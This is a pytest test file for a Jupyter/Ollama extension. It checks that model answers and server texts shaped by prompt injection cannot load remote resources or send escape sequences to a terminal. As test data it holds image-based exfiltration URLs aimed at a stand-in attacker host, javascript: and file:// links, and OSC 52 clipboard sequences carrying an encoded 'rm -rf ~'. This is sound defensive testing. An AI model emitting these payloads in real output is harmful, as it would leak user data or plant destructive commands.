"""Untrusted output: an answer never makes the browser fetch, nor the terminal obey.

A prompt injection can make a model write anything.  Shown in a notebook, nothing in it
may load a resource (an ``<img src=https://...>`` sends data out without a click, each
time the notebook is opened); written to a terminal, nothing in it may be an escape
sequence (clipboard writes, clearing the screen, retitling the window).  The same goes
for what else a server says: model names, error texts, the ``%ollama`` tables.
"""

from __future__ import annotations

import io
import random
import re
from typing import Any

import pytest

from ollama_magic.display.render import Answer, StreamingMarkdown, TerminalView, markdown_to_html
from ollama_magic.engine.result import GenerationResult, Stats
from ollama_magic.engine.terminal import TerminalText, one_line, printable

from .conftest import FakeOllama, chunk, final, run

PNG = (
    "data:image/png;base64,"
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)

REMOTE_IMAGES = [
    "![](https://attacker.example/c?d=SECRET)",
    "![logo](http://attacker.example/logo.png)",
    '![t](https://attacker.example/t.png "a title")',
    "![proto-relative](//attacker.example/p.png)",
    "![relative](pixel.png)",
    "![ref image][r]\n\n[r]: https://attacker.example/ref.png",
    "![collapsed][]\n\n[collapsed]: https://attacker.example/collapsed.png",
    "![shortcut]\n\n[shortcut]: https://attacker.example/short.png",
    "[![badge](https://attacker.example/badge.svg)](https://example.org/)",
    "> quoted ![q](https://attacker.example/q.png)",
    "- item ![i](https://attacker.example/i.png)",
    "| a |\n|---|\n| ![cell](https://attacker.example/cell.png) |",
    "![svg](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=)",
    "![svg](data:image/svg+xml,<svg onload=alert(1)>)",
    "![HTTPS](HTTPS://ATTACKER.EXAMPLE/UPPER.PNG)",
]

#: Markup that would load something on display (or run), as it could appear in HTML.
LOADS = re.compile(
    r"<(img|image|iframe|frame|embed|object|video|audio|source|link|meta|style|svg|script|base|input)\b"
    r"|srcset|url\(|@import",
    re.I,
)


def loads_nothing(html: str) -> bool:
    """No element that fetches, except an <img> whose source is an embedded raster image."""
    without_embedded = re.sub(r'<img src="data:image/(png|jpeg|gif|webp);[^"]*" alt="[^"]*" />', "", html)
    return LOADS.search(without_embedded) is None


@pytest.mark.parametrize("text", REMOTE_IMAGES)
def test_images_from_urls_become_links_that_load_nothing(text: str) -> None:
    html = markdown_to_html(text)
    assert loads_nothing(html), html
    assert not re.search(r'(src|srcset|data|poster|background)="[^"]*attacker', html)
    if "svg" not in text:
        assert "[image not loaded: " in html


def test_the_placeholder_says_what_it_is_and_links_to_the_image() -> None:
    html = markdown_to_html("See ![a <b>cat</b>](https://attacker.example/c?d=SECRET&x=1) here.")
    link = re.search(r"<a [^>]*>[^<]*</a>", html)
    assert link is not None, html
    assert 'href="https://attacker.example/c?d=SECRET&amp;x=1"' in link.group(0)
    assert 'rel="noopener noreferrer nofollow"' in link.group(0)
    assert "[image not loaded: a &lt;b&gt;cat&lt;/b&gt;]" in link.group(0)
    # an image without alt text is named by its address
    assert "[image not loaded: https://attacker.example/x.png]" in markdown_to_html(
        "![](https://attacker.example/x.png)"
    )


def test_a_linked_image_keeps_one_link_and_no_nested_anchor() -> None:
    html = markdown_to_html("[![badge](https://attacker.example/b.svg)](https://example.org/)")
    assert html.count("<a ") == 1 and 'href="https://example.org/"' in html
    assert "[image not loaded: badge]" in html


def test_embedded_raster_images_are_shown_and_svg_never() -> None:
    for kind in ("png", "jpeg", "gif", "webp"):
        html = markdown_to_html(f"![pixel]({PNG.replace('png', kind, 1)})")
        assert f'<img src="data:image/{kind};base64,' in html and 'alt="pixel"' in html
    for svg in REMOTE_IMAGES[-3:-1]:
        assert "<img" not in markdown_to_html(svg)


@pytest.mark.parametrize(
    "text",
    [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](file:///etc/passwd)",
        "[x](data:text/html,<script>alert(1)</script>)",
        "<javascript:alert(1)>",
        "[x][r]\n\n[r]: javascript:alert(1)",
    ],
)
def test_links_that_would_run_or_read_local_files_are_text(text: str) -> None:
    html = markdown_to_html(text)
    assert "<a " not in html, html


def test_links_need_a_click_and_send_no_referrer() -> None:
    for text in ("[site](https://example.org/)", "<https://example.org/>", "[s][r]\n\n[r]: https://example.org/"):
        html = markdown_to_html(text)
        assert '<a href="https://example.org/" rel="noopener noreferrer nofollow">' in html, html
        assert loads_nothing(html)


def test_streaming_render_turns_images_into_links_too() -> None:
    text = (
        "Intro paragraph.\n\n![one](https://attacker.example/1.png)\n\n- ![two](https://attacker.example/2.png)\n\n"
        "End ![three][r]\n\n[r]: https://attacker.example/3.png\n"
    )
    streaming = StreamingMarkdown()
    for end in range(1, len(text) + 1):
        html = streaming.render(text[:end])
        assert html == markdown_to_html(text[:end])
        assert loads_nothing(html), (end, html)


EXFILTRATE = "Sure. ![](https://attacker.example/c?d=SECRET)"


def test_a_notebook_answer_and_its_thinking_load_nothing(nb: Any, fake: FakeOllama) -> None:
    fake.stream(
        chunk("", thinking="Plan: ![t](https://attacker.example/think?d=SECRET)\n\n"),
        chunk("Sure. ![](https://attacker.example/"),
        chunk("c?d=SECRET) and ![p]("),
        chunk("//attacker.example/p.png)"),
        final([1]),
    )
    run(nb, "%%generate -m tiny\nHi")
    assert len(nb.publisher.messages) >= 2
    for message in nb.publisher.messages:  # every live update as well as the final output
        html = message["data"]["text/html"]
        assert loads_nothing(html), html
    final_html = nb.publisher.final["text/html"]
    assert final_html.count("[image not loaded: ") == 3
    assert "https://attacker.example/c?d=SECRET" in nb.publisher.final["text/plain"]  # the text is all kept


def test_the_panel_renders_answers_the_same_way(fake: FakeOllama) -> None:
    from ollama_magic.widgets.panel import GeneratePanel

    panel = GeneratePanel(host=fake.host, models=["tiny"], model="tiny")
    panel.prompt.value = "hi"
    fake.stream(chunk(EXFILTRATE), final([1]))
    panel.start()
    panel.wait(10)
    assert "[image not loaded: " in panel.output.value
    assert loads_nothing(panel.output.value), panel.output.value


def test_answer_html_has_nothing_that_loads_for_any_field() -> None:
    answer = Answer(
        EXFILTRATE,
        thinking=EXFILTRATE,
        status='<img src="https://attacker.example/s">',
        footer='<img src="https://attacker.example/f">',
        errors=['<link rel=stylesheet href="https://attacker.example/e.css">'],
    )
    assert loads_nothing(answer.html())
    structured = Answer("", data={"x": '<img src="https://attacker.example/d">'}, has_data=True)
    assert loads_nothing(structured.html())


# -- the terminal -----------------------------------------------------------------------

HOSTILE_TERMINAL = [
    ("clip\x1b]52;c;cm0gLXJmIH4=\x07board", "clipboard"),
    ("clip\x1b]52;c;cm0gLXJmIH4=\x1b\\board", "clipboard"),
    ("\x1b[2Jclear\x1b[H", "clear"),
    ("\x1b[31;1mred\x1b[0m", "red"),
    ("title\x1b]0;pwned\x07", "title"),
    ("\x1bPq#0;2;0;0;0\x1b\\dcs", "dcs"),
    ("\x1b_apc\x1b\\apc", "apc"),
    ("\x1b^pm\x1b\\pm", "pm"),
    ("\x1bXsos\x1b\\sos", "sos"),
    ("\x1bcreset", "reset"),
    ("\x1b(Bcharset", "charset"),
    ("\x9b2Jc1", "c1"),
    ("\x9d52;c;eA==\x9cosc8", "osc8"),
    ("bell\x07\x08\x7f\x00\x0b\x0c", "bell"),
    ("rm -rf ~\rls -l", "rm -rf ~ls -l"),
    ("line\r\nnext", "line\nnext"),
    ("keep\ttabs\nand newlines", "keep\ttabs\nand newlines"),
    ("unterminated \x1b]52;c;aGk=", "unterminated 52;c;aGk="),  # harmless without its ESC
    ("lone escape \x1b", "lone escape "),
    ("Unicode stays: é ✓ 你好 \u2028", "Unicode stays: é ✓ 你好 \u2028"),
]


@pytest.mark.parametrize(("raw", "shown"), HOSTILE_TERMINAL)
def test_printable_removes_escapes_and_controls(raw: str, shown: str) -> None:
    assert printable(raw) == shown
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", printable(raw))


def test_a_sequence_split_across_chunks_is_removed_at_every_split() -> None:
    text = "".join(raw for raw, _ in HOSTILE_TERMINAL) + " end"
    expected = printable(text)
    for cut in range(len(text) + 1):
        stream = TerminalText()
        assert stream.feed(text[:cut]) + stream.feed(text[cut:]) + stream.flush() == expected, cut
    rng = random.Random(8)
    for _ in range(300):
        stream, out, pos = TerminalText(), [], 0
        while pos < len(text):
            step = rng.randint(1, 6)
            out.append(stream.feed(text[pos : pos + step]))
            pos += step
        out.append(stream.flush())
        assert "".join(out) == expected


def test_nothing_is_held_back_from_ordinary_text() -> None:
    stream = TerminalText()
    assert stream.feed("Hey") == "Hey"
    assert stream.feed(" now!\n") == " now!\n"
    assert stream.feed("esc \x1b") == "esc "  # held: it may begin a sequence
    assert stream.feed("[2Jgone") == "gone"


def test_one_line_for_names_and_cells() -> None:
    assert one_line("evil\n\x1b[2Jname\tx") == "evil name x"
    assert one_line(123) == "123"


def test_terminal_answer_and_thinking_reach_the_terminal_clean(ip: Any, fake: FakeOllama, capsys: Any) -> None:
    fake.stream(
        chunk("", thinking="think \x1b]52;c;"),
        chunk("", thinking="cm0gLXJmIH4=\x07ing"),
        chunk("Hey \x1b"),
        chunk("[2J"),
        chunk("now\x9b"),
        chunk("31m!\x1b]0;title\x07"),
        final([1], model="tiny\x1b[5m"),
    )
    result = run(ip, "%%generate -m tiny -o r\nHi")
    assert result.success
    out = capsys.readouterr().out
    assert out.startswith("[thinking]\nthink ing\n[/thinking]\nHey now!\n— tiny · ")
    assert "\x1b" not in out and "\x9b" not in out and "\x07" not in out
    assert ip.user_ns["r"].text == "Hey \x1b[2Jnow\x9b31m!\x1b]0;title\x07"  # the result keeps the text as sent


def test_terminal_view_cleans_a_whole_answer_schema_errors_and_footer() -> None:
    out = io.StringIO()
    view = TerminalView(out)
    result = GenerationResult("whole\x1b[2J", "tiny", stats=Stats(), errors=["'\x1b]52;c;eA==\x07' is not valid"])
    view.finish(result, "tiny\x1b]0;t\x07 · 4 tokens", "\x1b[31mstatus")
    assert out.getvalue() == "whole\nSchema check failed:\n  - '' is not valid\nstatus\n— tiny · 4 tokens\n"


def test_the_plain_text_of_a_notebook_answer_has_no_escapes(nb: Any, fake: FakeOllama) -> None:
    """text/plain is what jupyter console prints and what a notebook saves beside the HTML."""
    fake.stream(chunk("", thinking="t\x1b]52;c;eA==\x07"), chunk("Hey \x1b[2J"), chunk("now!\x9b5m"), final([1]))
    run(nb, "%%generate -m tiny\nHi")
    for message in nb.publisher.messages:
        plain = message["data"]["text/plain"]
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", plain), repr(plain)
    assert nb.publisher.final["text/plain"].startswith("[thinking]\nt\n[/thinking]\nHey now!\n— tiny")


def test_error_texts_from_the_server_reach_the_terminal_clean(ip: Any, fake: FakeOllama, capsys: Any) -> None:
    fake.stream(chunk("Partial"), {"error": "boom\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2J here"})
    result = run(ip, "%%generate -m tiny\nHi")
    assert not result.success
    seen = capsys.readouterr()
    text = seen.out + seen.err
    assert "Ollama reported an error: boom here" in text
    assert "\x1b" not in text and "\x07" not in text


ESC_TAGS = {
    "models": [
        {
            "name": "evil\x1b]52;c;cm0gLXJmIH4=\x07:latest\x1b[2J",
            "size": 520_000,
            "modified_at": "2026-11-26T12:00:00Z\x1b[8m",
            "details": {"family": "llama\n\x1b[31m", "parameter_size": "0.1M", "quantization_level": "F32\x07"},
        }
    ]
}


def test_ollama_list_ps_show_version_print_no_escapes(ip: Any, fake: FakeOllama, capsys: Any) -> None:
    fake.server.expect_request("/api/tags").respond_with_json(ESC_TAGS)
    fake.server.expect_request("/api/ps").respond_with_json(ESC_TAGS)
    fake.server.expect_request("/api/show", method="POST").respond_with_json(
        {
            "details": {"family": "llama\x1b[2J"},
            "capabilities": ["completion\x1b]0;t\x07"],
            "parameters": "stop \x1b[31m<s>",
            "system": "be\x1b]52;c;eA==\x07 nice",
            "template": "{{ .Prompt }}\x9b2J",
        }
    )
    fake.server.expect_request("/api/version").respond_with_json({"version": "0.9.3\x1b]0;pwned\x07"})
    for line in ("%ollama list", "%ollama ps", "%ollama show evil", "%ollama version"):
        assert run(ip, line).success, line
    out = capsys.readouterr().out
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", out), repr(out)
    assert "evil:latest" in out and "llama" in out and "be nice" in out and "Ollama server 0.9.3 at" in out
    table = [line for line in out.splitlines() if line.startswith("evil")]
    assert len(table) == 2  # list and ps: the model's row is one line each (no line break from the server)
